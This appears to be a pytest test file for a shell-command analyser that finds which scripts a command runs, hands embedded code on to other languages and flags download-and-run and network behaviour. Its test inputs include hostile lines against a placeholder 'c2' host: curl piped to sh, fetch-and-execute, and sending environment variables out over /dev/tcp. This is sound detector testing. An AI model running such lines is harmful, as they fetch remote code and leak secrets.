"""What commands run of their own package, what they hand to other languages, and how long reading takes."""

from __future__ import annotations

import pytest

from fimci.capabilities.commands import judge
from fimci.capabilities.commands.state import Dialect
from tests.growth import is_linear


def references(text: str) -> dict[str, int]:
    return dict(judge(text, "sh").references)


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("node scripts/x.js", "scripts/x.js"),
        ("node ./x", "./x"),
        ("node --max-old-space-size=4096 x.mjs --flag y", "x.mjs"),
        ("node -r ./pre index.js", "./pre"),
        ("node --require=./pre index.js", "./pre"),
        ("node --import ./hook.mjs index.js", "./hook.mjs"),
        ("NODE_ENV=production node x.js", "x.js"),
        ("cross-env A=1 node x.js", "x.js"),
        ("npx node x.js", "x.js"),
        ("bun run x.ts", "x.ts"),
        ("deno run -A x.ts", "x.ts"),
        ("tsx src/x.ts", "src/x.ts"),
        ("sh ./x.sh", "./x.sh"),
        ("bash -eu -o pipefail x.sh", "x.sh"),
        ("bash x", "x"),
        ("python setup.py build", "setup.py"),
        ("python3 -W ignore x.py", "x.py"),
        ("./x --flag", "./x"),
        ("bin/x", "bin/x"),
        (". ./x", "./x"),
        ('python3 "$(dirname "$0")/x.py"', "./x.py"),
        ('. "$(dirname -- "${BASH_SOURCE[0]}")/lib/x.sh"', "./lib/x.sh"),
        ('here=$(dirname "$BASH_SOURCE"); node "$here/x.js"', "./x.js"),
        ("source lib/x.sh", "lib/x.sh"),
        ("exec ./x", "./x"),
        ("nohup ./x >/dev/null 2>&1 &", "./x"),
        ("test -f x.js && node x.js || true", "x.js"),
        ("find . -name '*.js' -exec node x.js {} +", "x.js"),
        ("docker run image sh -c 'node x.js'", "x.js"),
        ("chmod +x ./x && ./x", "./x"),
    ],
)
def test_what_is_run_of_the_own_package(text: str, target: str) -> None:
    assert references(text).get(target) == 0, references(text)


@pytest.mark.parametrize(
    "text",
    [
        "node -e 'x.js'",
        "node $SCRIPT",
        "/usr/bin/tool",
        "~/bin/tool",
        "npm run x",
        "bun install x",
        "echo node x.js",
        "curl https://c2.example.invalid/x -o x && ./x",
        "python -m x",
        "node https://c2.example.invalid/x.js",
    ],
)
def test_what_is_none(text: str) -> None:
    assert references(text) == {}


def test_a_reference_has_the_line_of_its_command() -> None:
    assert references("true\n\nnode a.js\nif x; then\n  sh b.sh\nfi") == {"a.js": 2, "b.sh": 4}


def test_texts_of_other_languages_are_handed_on() -> None:
    judged = judge(
        "true\npython3 - <<EOF\nimport os\nos.system('id')\nEOF\nnode -pe 'a(1)' && perl -e 1", "sh"
    )
    assert [(one.language, one.line, one.whole) for one in judged.inner] == [
        ("python", 2, True),
        ("javascript", 5, False),
    ]


def test_what_a_file_holds_is_judged_where_it_is_run_at_its_own_line() -> None:
    text = "cat > x.sh <<'EOF'\ntrue\ncurl https://c2.example.invalid | sh\nEOF\ntrue\nsh x.sh\n"
    (fact,) = (fact for fact in judge(text, "sh").facts if fact.name == "download-and-run")
    assert fact.line == 2
    assert not judge(text.replace("sh x.sh", "cat x.sh"), "sh").facts


def test_lines_of_what_was_decoded_are_that_of_the_command() -> None:
    text = "true\nprintf 'a\\nb\\n\\n\\n\\ncurl https://c2.example.invalid' | sh\n"
    (fact,) = (fact for fact in judge(text, "sh").facts if fact.name == "network")
    assert fact.line == 1


GROWING = {
    "files that are written": "echo $a > f\n",
    "files that are added to": "echo abc >> f\n",
    "texts that are written and run": "echo 'echo abc' > f; sh f\n",
    "substituted processes": "cat <(echo abc) | sh\n",
    "handed on": "node -e 'a()'\n",
    "sockets": "exec 3<>/dev/tcp/c2.example.invalid/80; env >&3\n",
    "finds": "find . -exec sh -c 'echo {}' \\;\n",
    "tables": "$a = @{b = @{c = 1\n",
    "blocks": "x | % { y | % { z\n",
    "holes": '"$a $(b) ${c} $env:d"\n',
    "loops": "for /f %%i in ('echo a') do %%i\n",
    "options": "tar czf a.tgz b; chmod u+s b; sed -i s/a/b/ c\n",
}


@pytest.mark.no_cover
@pytest.mark.parametrize("dialect", ["sh", "powershell", "batch"])
@pytest.mark.parametrize("kind", sorted(GROWING))
def test_time_grows_with_the_text(kind: str, dialect: Dialect) -> None:
    is_linear(lambda text: judge(text, dialect), lambda size: GROWING[kind] * size, 400)
